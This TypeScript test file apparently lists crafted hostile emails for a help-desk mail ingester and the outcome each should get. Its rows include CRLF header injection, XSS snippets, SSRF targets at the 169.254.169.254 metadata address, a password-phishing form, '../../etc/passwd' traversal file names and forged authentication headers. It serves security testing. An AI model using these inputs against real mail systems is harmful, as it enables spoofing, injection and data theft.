// Mails as strangers send them: headers and body as they come, and how each ends in the ledger. `opened new` is an
// ordinary ticket of its sender; `appended unverified` an internal note that nobody is shown but agents.
// {token}: the token of Ana's ticket. {own}: the Message-ID of a mail of ours on it. {known}: the one of Ana's mail.

import { from, type Made, made, rows } from '../row.ts'

export type MailIn = {
  /** Take the place of the ordinary ones; '' takes one away. Several of one name: an array. */
  readonly headers?: Readonly<Record<string, string | readonly string[] | Made>>
  readonly body?: string | Made
}

const loud = '/close\n@all see #1 and other/secret#2\n/assign @root\n'

export const mailsIn = rows<MailIn, string>('mail in', [
  ['ordinary', {}, 'opened new', 'design.md 1'],
  [
    'two-from-headers',
    { headers: { From: ['Ana <ana@school.example>', 'x@evil.example'] } },
    'quarantined no-sender',
    from.mailIn,
  ],
  [
    'two-addresses-in-from',
    { headers: { From: 'ana@school.example, x@evil.example' } },
    'quarantined no-sender',
    'RFC 5322 3.6.2',
  ],
  [
    'two-addresses-with-blank',
    { headers: { From: 'ana@school.example x@evil.example' } },
    'quarantined no-sender',
    'RFC 5322 3.4',
  ],
  ['no-from', { headers: { From: '' } }, 'quarantined no-sender', 'RFC 5322 3.6'],
  ['empty-from', { headers: { From: '<>' } }, 'quarantined no-sender', 'RFC 5322 3.4'],
  ['from-without-domain', { headers: { From: 'root' } }, 'quarantined no-sender', 'RFC 5321 4.1.2'],
  [
    'from-with-line-break',
    { headers: { From: '"Ana\r\n Bcc: victim@x.example" <ana@school.example>' } },
    'opened new',
    'CWE-93',
  ],
  [
    'address-in-name',
    { headers: { From: '"carla@school.example" <ana@school.example>' } },
    'opened new',
    'CWE-451',
  ],
  [
    'quoted-at-in-from',
    { headers: { From: '"ana@evil.example"@school.example' } },
    'quarantined no-sender',
    'RFC 5321 4.1.2',
  ],
  [
    'group-in-from',
    { headers: { From: 'all: ana@school.example, b@school.example;' } },
    'quarantined no-sender',
    'RFC 6854',
  ],
  [
    'name-with-commands',
    { headers: { From: '"/close @all #1" <ana@school.example>' }, body: loud },
    'opened new',
    from.text,
  ],
  [
    'name-encoded-line-break',
    { headers: { From: '=?utf-8?q?Ana=0D=0A/close?= <ana@school.example>' } },
    'opened new',
    'RFC 2047 5',
  ],
  [
    'name-direction',
    { headers: { From: '=?utf-8?b?4oCuYW5h?= <ana@school.example>' } },
    'opened new',
    'CVE-2021-42574',
  ],
  ['name-megabyte', { headers: { From: { of: 'a', times: 500_000 } } }, 'quarantined no-sender', 'CWE-400'],
  [
    'forged-authentication',
    {
      headers: {
        'Authentication-Results': 'desk.example; dkim=pass; spf=pass; dmarc=pass',
        Subject: 'Re: Screen (#1)',
        From: 'x@evil.example',
      },
    },
    'opened new',
    `${from.mailIn}; RFC 8601 1.6`,
  ],
  ['reply-to-victim', { headers: { 'Reply-To': 'victim@elsewhere.example' } }, 'opened new', from.mailIn],
  ['sender-victim', { headers: { Sender: 'victim@elsewhere.example' } }, 'opened new', 'RFC 5322 3.6.2'],
  [
    'cc-many',
    { headers: { Cc: made('v@x.example, ', 500) } },
    'opened new',
    `${from.mailIn}: Cc never subscribes`,
  ],
  [
    'disposition-wanted',
    {
      headers: { 'Disposition-Notification-To': 'victim@x.example', 'Return-Receipt-To': 'victim@x.example' },
    },
    'opened new',
    'RFC 8098 2.1',
  ],

  // Whose ticket is it.
  [
    'known-number',
    { headers: { From: 'x@evil.example', Subject: 'Re: Screen (#1)' }, body: loud },
    'opened new',
    from.mailIn,
  ],
  [
    'known-number-of-requester',
    { headers: { Subject: 'Re: Screen (#1)' }, body: loud },
    'appended unverified',
    from.mailIn,
  ],
  ['number-twice', { headers: { Subject: '(#2) (#1)', From: 'x@evil.example' } }, 'opened new', from.mailIn],
  ['number-huge', { headers: { Subject: '(#99999999999999999999)' } }, 'opened new', 'CWE-190'],
  [
    'copied-message-id',
    { headers: { From: 'x@evil.example', 'In-Reply-To': '<{known}>' }, body: loud },
    'appended unverified',
    from.mailIn,
  ],
  [
    'copied-message-id-of-requester',
    { headers: { 'In-Reply-To': '<{known}>' } },
    'appended unverified',
    from.mailIn,
  ],
  [
    'copied-in-references',
    { headers: { From: 'x@evil.example', References: '<a@b.example> <{known}>' } },
    'appended unverified',
    from.mailIn,
  ],
  [
    'copied-reply-all-name',
    { headers: { From: '"`@all` #1 /close" <x@evil.example>', 'In-Reply-To': '<{known}>' }, body: loud },
    'appended unverified',
    from.text,
  ],
  ['token-wrong', { headers: { To: 'help+aaaaaaaaaaaaaaaaaaaaaaaaaa@desk.example' } }, 'opened new', 'I8'],
  ['token-shortened', { headers: { To: 'help+{token-short}@desk.example' } }, 'opened new', 'I8'],
  ['token-one-letter-other', { headers: { To: 'help+{token-other}@desk.example' } }, 'opened new', 'I8'],
  ['token-of-other-domain', { headers: { To: 'help+{token}@evil.example' } }, 'opened new', 'I8'],
  ['token-in-text', { body: 'help+{token}@desk.example' }, 'opened new', 'I8'],
  ['token-in-subject', { headers: { Subject: '{token}' } }, 'opened new', 'I8'],
  ['token-right', { headers: { To: 'help+{token}@desk.example' }, body: loud }, 'appended by-token', 'I8'],
  [
    'token-right-of-stranger',
    { headers: { From: '"@all" <x@evil.example>', To: 'help+{token}@desk.example' }, body: loud },
    'appended by-token',
    'I8',
  ],
  ['token-in-message-id', { headers: { 'In-Reply-To': '<{own}>' }, body: loud }, 'appended by-token', 'I8'],
  ['no-message-id', { headers: { 'Message-ID': '' } }, 'opened new', from.mailIn],
  ['message-id-of-nobody', { headers: { 'Message-ID': '<a b>\r\n c>' } }, 'opened new', 'RFC 5322 3.6.4'],
  [
    'message-id-of-ours',
    { headers: { 'Message-ID': '<{own}>' } },
    'opened new',
    `${from.mailIn}: a Message-ID another mail will carry`,
  ],

  // What no person wrote.
  ['auto-replied', { headers: { 'Auto-Submitted': 'auto-replied' } }, 'ignored auto-reply', 'RFC 3834 5'],
  [
    'auto-replied-with-token',
    { headers: { 'Auto-Submitted': 'auto-replied', To: 'help+{token}@desk.example' } },
    'ignored auto-reply',
    'RFC 3834 5',
  ],
  ['auto-submitted-no', { headers: { 'Auto-Submitted': 'no' } }, 'opened new', 'RFC 3834 5'],
  [
    'out-of-office',
    { headers: { Subject: 'Automatic reply: away' } },
    'opened new',
    'RFC 3834 2: a subject alone proves nothing; answers are bounded',
  ],
  ['bulk', { headers: { Precedence: 'bulk' } }, 'ignored list', 'RFC 3834 2'],
  ['list', { headers: { 'List-Id': '<a.lists.example>' } }, 'ignored list', 'RFC 2919'],
  ['our-own-header', { headers: { 'X-Belay-Desk': '1' } }, 'ignored loop', from.mailOut],
  ['other-desk', { headers: { 'X-OTRS-Loop': 'yes' } }, 'ignored loop', from.mailIn],
  ['from-ourselves', { headers: { From: 'help@desk.example' } }, 'ignored own-address', from.mailIn],
  [
    'from-ourselves-with-token',
    { headers: { From: 'Help+{token}@DESK.example' } },
    'ignored own-address',
    from.mailIn,
  ],
  ['null-sender', { headers: { 'Return-Path': '<>' } }, 'ignored null-sender', 'RFC 5321 4.5.5'],
  [
    'read-receipt',
    {
      headers: { 'Content-Type': 'multipart/report; report-type=disposition-notification; boundary=b' },
      body: '--b\r\n\r\nread\r\n--b--',
    },
    'ignored report',
    'RFC 8098',
  ],
  [
    'false-bounce',
    {
      headers: {
        From: 'MAILER-DAEMON@x.example',
        'Return-Path': '<>',
        'Content-Type': 'multipart/report; report-type=delivery-status; boundary=b',
      },
      body: '--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; ana@school.example\r\nAction: failed\r\nStatus: 5.1.1\r\n--b--',
    },
    'bounced unknown-bounce',
    'RFC 3464',
  ],
  [
    'loud-bounce-with-token',
    {
      headers: {
        From: 'MAILER-DAEMON@x.example',
        To: 'help+{token}@desk.example',
        'Return-Path': '<>',
        'Content-Type': 'multipart/report; report-type=delivery-status; boundary=b',
      },
      body: '--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; ana@school.example\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; `` @all #1 `\r\n--b--',
    },
    'bounced undeliverable',
    'RFC 3464; security.md 4',
  ],
  ['nothing-in-it', { headers: { Subject: '' }, body: '' }, 'ignored nothing-in-it', 'design.md 4'],
  [
    'zero-width-only',
    { headers: { Subject: '=?utf-8?b?4oCL?=' }, body: '\u200b\u2060' },
    'ignored nothing-in-it',
    from.text,
  ],

  // Signs, charsets, shapes.
  [
    'subject-line-break',
    { headers: { Subject: '=?utf-8?q?Screen=0D=0ABcc:_victim@x.example?=' } },
    'opened new',
    `${from.mailIn}; CWE-93`,
  ],
  ['subject-nul', { headers: { Subject: '=?utf-8?q?Scr=00een?=' } }, 'opened new', from.mailIn],
  ['subject-commands', { headers: { Subject: '/close @all other/secret#1' } }, 'opened new', from.text],
  ['subject-megabyte', { headers: { Subject: made('word ', 100_000) } }, 'opened new', 'RFC 5322 2.1.1'],
  [
    'subject-broken-encoding',
    { headers: { Subject: '=?x-unknown?q?=FF=FE?= =?utf-8?b?/////?=' } },
    'opened new',
    'RFC 2047 6.3',
  ],
  ['body-commands', { body: loud }, 'opened new', from.text],
  [
    'body-utf-7',
    { headers: { 'Content-Type': 'text/plain; charset=utf-7' }, body: '+AC8-close\r\n+AEA-all' },
    'opened new',
    `${from.mailIn}: UTF-7`,
  ],
  [
    'body-unknown-charset',
    { headers: { 'Content-Type': 'text/plain; charset=x-evil' }, body: '/close' },
    'opened new',
    from.mailIn,
  ],
  ['body-nul', { body: 'a\0b\0/close' }, 'opened new', from.mailIn],
  [
    'body-lone-surrogate',
    { headers: { 'Content-Type': 'text/plain; charset=utf-16le' }, body: '\u0000\ud800' },
    'opened new',
    from.mailIn,
  ],
  [
    'body-our-marker',
    { body: 'Hi\n\n<!-- belay:v1:k1:e30:AAAAAAAAAAAAAAAAAAAAAA -->' },
    'opened new',
    'design.md 4, markers',
  ],
  [
    'body-our-fold',
    { body: '<details><summary>Quoted text</summary>\n\n/close\n\n</details>' },
    'opened new',
    'CWE-79',
  ],
  [
    'body-quote-only',
    { body: '> all of it\n> is quoted' },
    'opened new',
    `${from.mailIn}: reply stripping keeps the whole`,
  ],
  [
    'html-script',
    {
      headers: { 'Content-Type': 'text/html' },
      body: '<script>alert(1)</script><img src=x onerror=alert(1)>Hello',
    },
    'opened new',
    'CWE-79',
  ],
  [
    'html-remote-picture',
    {
      headers: { 'Content-Type': 'text/html' },
      body: 'Hi <img src="http://169.254.169.254/latest/meta-data">',
    },
    'opened new',
    'CWE-918',
  ],
  [
    'html-form',
    {
      headers: { 'Content-Type': 'text/html' },
      body: '<form action="https://evil.example"><input name=password></form>Hi',
    },
    'opened new',
    'CWE-451',
  ],
  [
    'html-style-hidden',
    { headers: { 'Content-Type': 'text/html' }, body: '<div style="display:none">/close</div>Hello' },
    'opened new',
    from.text,
  ],
  [
    'html-commands',
    { headers: { 'Content-Type': 'text/html' }, body: '<p>/close</p><p>@all #1</p>' },
    'opened new',
    from.text,
  ],
  [
    'html-meta-refresh',
    {
      headers: { 'Content-Type': 'text/html' },
      body: '<meta http-equiv=refresh content="0;url=https://evil.example">Hi',
    },
    'opened new',
    'CWE-601',
  ],
  [
    'boundary-missing',
    { headers: { 'Content-Type': 'multipart/mixed' }, body: 'Hello' },
    'opened new',
    'RFC 2046 5.1.1',
  ],
  [
    'boundary-never-comes',
    { headers: { 'Content-Type': 'multipart/mixed; boundary=zzz' }, body: 'Hello' },
    'opened new',
    'RFC 2046 5.1.1',
  ],
  [
    'nested-deep',
    {
      headers: { 'Content-Type': 'multipart/mixed; boundary=b0' },
      body: made('--b0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n', 300),
    },
    'quarantined unreadable',
    `${from.mailIn}: depth`,
  ],
  [
    'external-body',
    {
      headers: { 'Content-Type': 'message/external-body; access-type=URL; URL="http://169.254.169.254/"' },
      body: 'Content-Type: text/plain\r\n\r\n',
    },
    'opened new',
    'RFC 2017; CWE-918',
  ],
  ['uuencoded', { body: 'begin 644 ../../etc/passwd\n#86)C\n`\nend' }, 'opened new', 'CWE-22'],
  [
    'transfer-encoding-unknown',
    { headers: { 'Content-Transfer-Encoding': 'x-evil' }, body: 'Hello' },
    'opened new',
    'RFC 2045 6.4',
  ],
  [
    'base64-broken',
    { headers: { 'Content-Transfer-Encoding': 'base64' }, body: '!!!!=AAA' },
    'opened new',
    'RFC 2045 6.8',
  ],
  ['headers-without-end', { headers: { 'X-A': made('x', 900_000) } }, 'opened new', 'CWE-400'],
  [
    'headers-too-large',
    { headers: { 'X-A': made('x', 3_000_000) } },
    'quarantined unreadable',
    `${from.mailIn}: 3 MB of headers`,
  ],
  ['date-of-nobody', { headers: { Date: 'Thu, 99 Foo 99999 99:99:99 +9999' } }, 'opened new', 'RFC 5322 3.3'],
  [
    'attachment-climbs-up',
    {
      headers: {
        'Content-Type': 'application/octet-stream; name="../../etc/passwd"',
        'Content-Disposition': 'attachment; filename="../../etc/passwd"',
      },
      body: 'x',
    },
    'opened new',
    'CWE-22',
  ],
])
